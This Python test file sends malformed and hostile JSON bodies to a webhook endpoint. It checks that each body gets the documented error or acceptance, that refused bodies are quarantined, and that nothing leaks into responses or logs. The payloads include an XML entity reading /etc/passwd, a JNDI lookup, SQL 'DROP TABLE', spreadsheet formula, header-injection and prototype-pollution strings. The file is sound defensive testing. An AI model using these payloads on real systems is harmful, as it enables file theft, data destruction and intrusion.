"""Bodies that are authentic, and written to break what reads them."""

from __future__ import annotations

import asyncio
import gzip
import hmac
import json
import re
from dataclasses import dataclass
from typing import Any, Final

import pytest
from pydantic import SecretStr
from structlog.testing import capture_logs
from support.exchange import Answered, exchange
from support.inputs_page import answers

from pipeline.contracts import Topic
from pipeline.kafka.testing import MemoryPublisher
from pipeline.webhooks.sources import SchemeVerifier
from pipeline.webhooks.sources.configured import ConfiguredSource
from pipeline.webhooks.sources.settings import EventAttributes
from pipeline.webhooks.testing import SECRET, ecs_webhook, serving
from pipeline.webhooks.verification import HmacSpec, Secret, scheme_of
from pipeline.webhooks.webhook import Webhook

CARD: Final = "4111111111111111"
"""It is in nearly every body, and in nothing that leaves the ingress but the stored record."""
GUID: Final = "cffde776-1d2a-4614-8023-a5148e411462"
GOOD: Final[dict[str, Any]] = {
    "job_guid": GUID,
    "partner_reference_id": "location-002",
    "merchant_guid": "4933e450-d3c4-406f-9b9b-3afb812a5b7c",
    "external_location_ids": ["46691"],
    "record_count": 200,
    "input_file_url": "https://files.example.com/input.csv",
    "result_upload_url": "https://files.example.com/output.csv",
    "expires_at": "2026-01-22T22:43:59.295Z",
    "callback_url": "https://ecs.example.com/told",
    "note": CARD,
}
TEXT: Final = json.dumps(GOOD)
ALL_REQUIRED: Final = "422 " + ", ".join(f"{name}: required" for name in GOOD if name != "note")
OK: Final = "202"
SHOP: Final = Webhook(
    integration="shop",
    kind="hmac",
    path="/webhooks/shop",
    verifier=SchemeVerifier(
        scheme_of(HmacSpec(scheme="hmac", header="X-Sig"), [Secret("current", SecretStr(SECRET))]),
    ),
    source=ConfiguredSource(
        "shop", EventAttributes(type=("json:/partner_reference_id",), key=("json:/job_guid",)), lambda _: b""
    ),
)


@dataclass(frozen=True, slots=True)
class Case:
    """A body, and the announcement's answer: the status, and field and rule of each finding."""

    answer: str
    body: bytes


def with_(answer: str, **changes: Any) -> Case:
    """The good body with some fields changed; ``...`` removes one."""
    fields = {name: value for name, value in (GOOD | changes).items() if value is not ...}
    return Case(answer, json.dumps(fields).encode())


def written(answer: str, old: str, new: str) -> Case:
    """The good body with a piece of its text replaced."""
    assert old in TEXT
    return Case(answer, TEXT.replace(old, new).encode("utf-8", "surrogateescape"))


def raw(answer: str, body: bytes | str) -> Case:
    return Case(answer, body if isinstance(body, bytes) else body.encode())


def nested(depth: int) -> str:
    return '"note": ' + "[" * depth + f'"{CARD}"' + "]" * depth


NOTE: Final = f'"note": "{CARD}"'
NOT_JSON: Final = "422 not_json"
NOT_AN_OBJECT: Final = "422 not_an_object"

CASES: Final[dict[str, Case]] = {
    # no JSON
    "empty": raw(NOT_JSON, b""),
    "blanks": raw(NOT_JSON, b" \t\r\n" * 100),
    "nul-bytes": raw(NOT_JSON, b"\x00" * 64),
    "cut-in-the-middle": raw(NOT_JSON, TEXT[:-30]),
    "something-behind": raw(NOT_JSON, TEXT + CARD),
    "two-objects": raw(NOT_JSON, TEXT + TEXT),
    "json-lines": raw(NOT_JSON, TEXT + "\n" + TEXT + "\n"),
    "nul-behind": raw(NOT_JSON, TEXT + "\x00"),
    "single-quotes": raw(NOT_JSON, TEXT.replace('"', "'")),
    "comment": raw(NOT_JSON, "/* " + CARD + " */" + TEXT),
    "comma-at-the-end": written(NOT_JSON, NOTE, NOTE + ","),
    "names-without-quotes": written(NOT_JSON, '"note"', "note"),
    "hexadecimal-number": written(NOT_JSON, "200", "0xC8"),
    "number-with-leading-zero": written(NOT_JSON, "200", "0200"),
    "number-with-plus": written(NOT_JSON, "200", "+200"),
    "line-end-in-a-text": written(NOT_JSON, CARD, CARD + "\n"),
    "nul-in-a-text": written(NOT_JSON, CARD, CARD + "\x00"),
    "escape-unknown": written(NOT_JSON, CARD, CARD + "\\x41"),
    "form-encoded": raw(NOT_JSON, "payload=%7B%22card%22%3A" + CARD + "%7D"),
    "multipart": raw(NOT_JSON, f'--x\r\nContent-Disposition: form-data; name="card"\r\n\r\n{CARD}\r\n--x--\r\n'),
    "xml-with-an-entity": raw(
        NOT_JSON, f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a card="{CARD}">&x;</a>'
    ),
    "yaml-with-aliases": raw(NOT_JSON, f"a: &a [{CARD}]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]\n"),
    "html": raw(NOT_JSON, f"<html><script>alert({CARD})</script></html>"),
    "python-pickle": raw("422 not_utf8", b"\x80\x04\x95" + CARD.encode() + b"\x8c\x05posix\x94."),
    "javascript-behind-a-guard": raw(NOT_JSON, ")]}',\n" + TEXT),
    # no text
    "utf-16": raw("422 not_utf8", TEXT.encode("utf-16")),
    "utf-16-without-mark": raw(NOT_JSON, TEXT.encode("utf-16-le")),
    "utf-32": raw("422 not_utf8", TEXT.encode("utf-32")),
    "latin-1": written("422 not_utf8", "location-002", "caf\udce9"),
    "overlong-utf-8": written("422 not_utf8", "location-002", "\udcc0\udcaf"),
    "half-a-surrogate-as-bytes": written("422 not_utf8", "location-002", "\udced\udca0\udc80"),
    "compressed-without-saying-so": raw("422 not_utf8", gzip.compress(TEXT.encode(), mtime=0)),
    # no object
    "null": raw(NOT_AN_OBJECT, "null"),
    "true": raw(NOT_AN_OBJECT, "true"),
    "number": raw(NOT_AN_OBJECT, CARD),
    "text": raw(NOT_AN_OBJECT, f'"{CARD}"'),
    "array-of-the-object": raw(NOT_AN_OBJECT, f"[{TEXT}]"),
    "empty-array": raw(NOT_AN_OBJECT, "[]"),
    "empty-object": raw(ALL_REQUIRED, "{}"),
    # JSON that two readers understand differently
    "name-twice": written("422 note: duplicate_key", NOTE, NOTE + ', "note": "2"'),
    "name-twice-escaped": written("422 job_guid: duplicate_key", NOTE, '"job\\u005fguid": "' + CARD + '"'),
    "card-number-as-a-name-twice": written("422 ?: duplicate_key", NOTE, f'"{CARD}": 1, "{CARD}": 2'),
    "nan": written("422 not_a_number", f'"{CARD}"', "NaN"),
    "infinity": written("422 not_a_number", f'"{CARD}"', "-Infinity"),
    "number-beyond-float": written("422 number_too_large", f'"{CARD}"', "1e999"),
    "number-of-5000-digits": written("422 number_too_large", f'"{CARD}"', "4" * 5000),
    "half-a-surrogate": written("422 broken_unicode", CARD, "\\ud83d"),
    "halves-in-the-wrong-order": written("422 broken_unicode", CARD, "\\ude00\\ud83d"),
    "half-a-surrogate-in-a-name": written("422 broken_unicode", '"note"', '"\\udfff"'),
    "surrogate-pair": written(OK, CARD, "\\ud83d\\ude00"),
    # too much
    "nested-31": written(OK, NOTE, nested(31)),
    "nested-32": written("422 too_deep", NOTE, nested(32)),
    "nested-100000": written("422 too_deep", NOTE, nested(100_000)),
    "open-arrays-100000": raw("422 too_deep", "[" * 100_000),
    "open-objects-100000": raw("422 too_deep", '{"a":' * 80_000),
    "names-30000": written(OK, NOTE, ", ".join(f'"n{number}": 0' for number in range(30_000))),
    "text-of-400000": written(OK, CARD, "4" * 400_000),
    "blanks-400000": written(OK, NOTE, " " * 400_000 + NOTE),
    "locations-10001": with_("422 external_location_ids: too_many", external_location_ids=["1"] * 10_001),
    "locations-wrong-100000": with_("422 too_many_faults", external_location_ids=[4] * 100_000),
    "reference-of-1025": with_("422 partner_reference_id: too_long", partner_reference_id="4" * 1025),
    # values
    "all-null": raw(
        "422 job_guid: guid, partner_reference_id: text, merchant_guid: guid, external_location_ids: array, "
        "record_count: integer, input_file_url: text, result_upload_url: text, expires_at: timestamp, "
        "callback_url: text",
        json.dumps(dict.fromkeys(GOOD)),
    ),
    "names-in-capitals": raw(ALL_REQUIRED, TEXT.replace('"record_count"', '"RECORD_COUNT"').upper()),
    "name-with-a-lookalike": written("422 job_guid: required", '"job_guid"', '"j\u043eb_guid"'),
    "name-with-a-blank": written("422 job_guid: required", '"job_guid"', '"job_guid "'),
    "prototype": written(OK, NOTE, '"__proto__": {"admin": true}, "__class__": "os.system", "constructor": {}'),
    "guid-in-capitals": with_(OK, job_guid=GUID.upper()),
    "guid-in-braces": with_(OK, job_guid=f"{{{GUID}}}"),
    "guid-as-urn": with_(OK, job_guid=f"urn:uuid:{GUID}"),
    "guid-of-zeros": with_(OK, job_guid="00000000-0000-0000-0000-000000000000"),
    "guid-with-a-path": with_("422 job_guid: guid", job_guid="../../" + GUID),
    "guid-with-a-line-end": with_("422 job_guid: guid", job_guid=GUID + "\r\nX-Injected: 1"),
    "guid-is-a-card": with_("422 job_guid: guid", job_guid=CARD),
    "guid-as-an-object": with_("422 job_guid: guid", job_guid={"$ne": None}),
    "count-negative": with_("422 record_count: too_small", record_count=-1),
    "count-as-text": with_("422 record_count: integer", record_count="200"),
    "count-with-fraction": with_("422 record_count: integer", record_count=200.5),
    "count-true": with_("422 record_count: integer", record_count=True),
    "count-beyond-64-bits": with_("422 record_count: too_large", record_count=2**63),
    "time-as-seconds": with_("422 expires_at: timestamp", expires_at=1769121840),
    "time-as-seconds-in-quotes": with_("422 expires_at: timestamp", expires_at="1769121840"),
    "time-without-zone": with_("422 expires_at: timestamp_zone", expires_at="2026-01-22T22:43:59"),
    "time-of-no-day": with_("422 expires_at: timestamp", expires_at="2026-02-30T00:00:00Z"),
    "time-in-the-year-9999": with_("422 expires_at: timestamp", expires_at="9999-12-31T23:59:59Z"),
    "time-with-a-leap-second": with_("422 expires_at: timestamp", expires_at="2026-12-31T23:59:60Z"),
    "reference-with-a-line-end": with_(OK, partner_reference_id="a\r\nX-Injected: 1"),
    "reference-with-a-lookup": with_(OK, partner_reference_id="${jndi:ldap://x.example/a}{{7*7}}%n%s"),
    "reference-with-sql": with_(OK, partner_reference_id="'; DROP TABLE jobs; --"),
    "reference-with-a-formula": with_(OK, partner_reference_id="=cmd|' /C calc'!A0"),
    "reference-right-to-left": with_(OK, partner_reference_id="a\u202e\u2066\u0000\u001b[2J"),
    "reference-is-an-array": with_("422 partner_reference_id: text", partner_reference_id=[CARD]),
    "locations-are-cards": with_("422 external_location_ids.0: text", external_location_ids=[int(CARD)]),
    "url-of-a-number": with_("422 input_file_url: url_host", input_file_url="https://" + CARD),
}

PROMISED: Final = answers("hostile-bodies")


def posted(path: str, body: bytes, header: str) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: here\r\nContent-Type: application/json\r\n{header}\r\nConnection: close\r\n"
    return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


def said(answer: Answered) -> str:
    """The status, and field and rule of each finding."""
    if not answer.body:
        return str(answer.status)
    document = json.loads(answer.body)
    assert document["status"] == answer.status
    findings = document.get("errors", [document])
    named = (f"{one['field']}: {one['rule']}" if one.get("field") else one["rule"] for one in findings)
    return f"{answer.status} {', '.join(named)}"


@pytest.mark.parametrize("name", CASES)
async def test_an_announcement_gets_the_promised_answer(name: str) -> None:
    """What is refused is in quarantine as received, and nothing of it is shown."""
    case = CASES[name]
    publisher = MemoryPublisher()
    with capture_logs() as logs:
        async with serving(publisher) as here:
            request = posted("/webhooks/ecs/acme", case.body, f"X-Webhook-Secret: {SECRET}")
            (answer,) = await exchange(here, [request], 1)
            assert said(answer) == case.answer
            async with asyncio.timeout(2):
                await here.ingress.limits.idle()
    topic = Topic.BATCH_REQUESTED if case.answer == OK else Topic.BATCH_QUARANTINE
    (record,) = (one for one in publisher.published if one.topic is not Topic.AUDIT_EVENTS)
    assert (record.topic, record.value) == (topic, case.body)
    _shows_nothing(answer, str(logs), str(record.headers))


@pytest.mark.parametrize("name", CASES)
async def test_a_configured_source_keeps_it(name: str) -> None:
    """A sender that never repeats loses nothing: the record's value is the body as received."""
    case = CASES[name]
    publisher = MemoryPublisher()
    with capture_logs() as logs:
        async with serving(publisher, webhooks=[SHOP, ecs_webhook()]) as here:
            signature = hmac.digest(SECRET.encode(), case.body, "sha256").hex()
            (answer,) = await exchange(here, [posted("/webhooks/shop", case.body, f"X-Sig: {signature}")], 1)
            assert said(answer) == "200"
    (record,) = (one for one in publisher.published if one.topic is not Topic.AUDIT_EVENTS)
    assert record.value == case.body
    _shows_nothing(answer, str(logs), "")


def _shows_nothing(answer: Answered, *texts: str) -> None:
    for text in (answer.head.decode("latin-1"), answer.body.decode(), *texts):
        assert CARD not in text
        assert not re.search(r"X-Injected: 1|Traceback|aiohttp|pydantic|\.py\b", text)


@pytest.mark.parametrize("name", CASES)
def test_the_page_promises_this_answer(name: str) -> None:
    assert PROMISED[name].split("`")[1] == CASES[name].answer
